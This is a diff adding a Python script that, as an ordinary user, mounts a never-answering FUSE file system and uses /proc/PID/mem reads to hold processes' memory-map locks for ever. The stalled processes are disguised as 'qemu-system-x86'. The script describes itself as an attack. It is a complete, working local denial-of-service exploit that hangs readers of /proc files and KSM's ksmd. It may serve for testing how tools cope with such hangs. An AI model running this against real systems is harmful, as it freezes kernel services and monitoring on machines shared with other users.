@@ -1,0 +1,155 @@
+"""Holds the locks of processes' memory maps for ever, as an ordinary user.
+
+    hold_lock.py UID PLACE FUSE COUNT
+
+A process maps a page of a file system of the user's own (FUSE), which never gives that page. A second process reads the
+page through /proc/PID/mem, and so holds the lock of the first one's memory map for reading. The first one asks for more
+memory, and so waits for its own lock. From then on each reader of its ksm_stat, cmdline, smaps, pagemap or mem waits.
+
+UID is the user to become. PLACE is a directory that the user may write to. FUSE is a device node like /dev/fuse that the
+user may open. Each victim has the name of a hypervisor, and its PID is printed once its lock is held. All ends with the
+standard input.
+
+The victims have no mergeable memory: ksmd, and each write to KSM's `run`, would wait for such a lock for ever.
+"""
+
+import ctypes
+import os
+import signal
+import struct
+import sys
+import threading
+import time
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+
+PAGE = 4096
+CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
+FUSE_LOOKUP, FUSE_FORGET, FUSE_GETATTR, FUSE_OPEN, FUSE_READ = 1, 2, 3, 14, 15
+FUSE_FLUSH, FUSE_INIT, FUSE_INTERRUPT, FUSE_BATCH_FORGET = 25, 26, 36, 42
+ENOSYS = 38
+
+
+def call(name, *arguments):
+    if getattr(libc, name)(*arguments) < 0:
+        number = ctypes.get_errno()
+        raise OSError(number, f"{name}: {os.strerror(number)}")
+
+
+def become(user):
+    if os.getuid() == 0:
+        os.setgroups([])
+        os.setgid(user)
+        os.setuid(user)
+        # Such a process may not write its own uid_map otherwise.
+        call("prctl", 4, 1, 0, 0, 0)
+    uid, gid = os.getuid(), os.getgid()
+    call("unshare", CLONE_NEWUSER | CLONE_NEWNS)
+    for name, text in [("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")]:
+        with open(f"/proc/self/{name}", "w") as file:
+            file.write(text)
+
+
+def die_with_parent():
+    call("prctl", 1, signal.SIGKILL, 0, 0, 0)
+
+
+def serve(fuse):
+    """Answers all requests but those for pages."""
+    attributes = struct.pack("<6Q10I", 1, 1 << 20, 2048, 0, 0, 0, 0, 0, 0, 0o100666, 1, 0, 0, 0, PAGE, 0)
+    while True:
+        try:
+            request = os.read(fuse, 1 << 18)
+        except OSError:
+            return
+        _, operation, unique = struct.unpack_from("<IIQ", request)
+        if operation in (FUSE_READ, FUSE_FORGET, FUSE_INTERRUPT, FUSE_BATCH_FORGET):
+            continue
+        body, error = b"", 0
+        if operation == FUSE_INIT:
+            body = struct.pack("<IIIIHHIIHHI7I", 7, 31, 0, 0, 12, 9, PAGE, 1, 0, 0, 0, *([0] * 7))[:64]
+        elif operation == FUSE_GETATTR:
+            body = struct.pack("<QII", 3600, 0, 0) + attributes
+        elif operation == FUSE_FLUSH:
+            # The kernel sends no other then: closing the file never waits for this server.
+            error = -ENOSYS
+        elif operation == FUSE_OPEN:
+            body = struct.pack("<QII", 1, 0, 0)
+        os.write(fuse, struct.pack("<IiQ", 16 + len(body), error, unique) + body)
+
+
+def victim(file, told, go):
+    call("prctl", 15, b"qemu-system-x86", 0, 0, 0)
+    address = libc.mmap(None, PAGE, 1, 1, file, 0)
+    os.write(told, struct.pack("<Q", address))
+    os.read(go, 1)
+    libc.mmap(None, PAGE, 3, 0x22, -1, 0)
+    os._exit(1)
+
+
+def state(pid):
+    with open(f"/proc/{pid}/stat") as file:
+        return file.read().rsplit(")", 1)[1].split()[0]
+
+
+def wait_until(pid, holds):
+    while not holds():
+        if state(pid) in "ZX":
+            sys.exit("the attack has failed")
+        time.sleep(0.001)
+
+
+def waits_for_page(pid, address):
+    with open(f"/proc/{pid}/syscall") as file:
+        return hex(address) in file.read().split() and state(pid) in "SD"
+
+
+def hold(fuse, file):
+    told, tell = os.pipe()
+    wait, go = os.pipe()
+    first = os.fork()
+    if first == 0:
+        die_with_parent()
+        os.close(fuse)
+        victim(file, tell, wait)
+    (address,) = struct.unpack("<Q", os.read(told, 8))
+    second = os.fork()
+    if second == 0:
+        die_with_parent()
+        # As long as any process has it open the file system does not end.
+        os.close(fuse)
+        try:
+            os.pread(os.open(f"/proc/{first}/mem", os.O_RDONLY), 1, address)
+        finally:
+            os._exit(1)
+    wait_until(second, lambda: waits_for_page(second, address))
+    os.write(go, b"x")
+    wait_until(first, lambda: state(first) == "D")
+    for end in (told, tell, wait, go):
+        os.close(end)
+    return first
+
+
+def main():
+    user, place, device, count = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
+    become(user)
+    path = os.path.join(place, f"slow-{os.getpid()}")
+    open(path, "w").close()
+    fuse = os.open(device, os.O_RDWR)
+    options = f"fd={fuse},rootmode=100000,user_id=0,group_id=0"
+    call("mount", b"slow", path.encode(), b"fuse", 6, options.encode())
+    threading.Thread(target=serve, args=(fuse,), daemon=True).start()
+    file = os.open(path, os.O_RDONLY)
+    # The kernel asks for the length by this. Beyond it no page is asked for.
+    os.fstat(file)
+    os.close(os.dup(file))
+    for _ in range(count):
+        print(hold(fuse, file), flush=True)
+    sys.stdin.read()
+    # The file system ends with its server, and so does each wait.
+    os._exit(0)
+
+
+main()
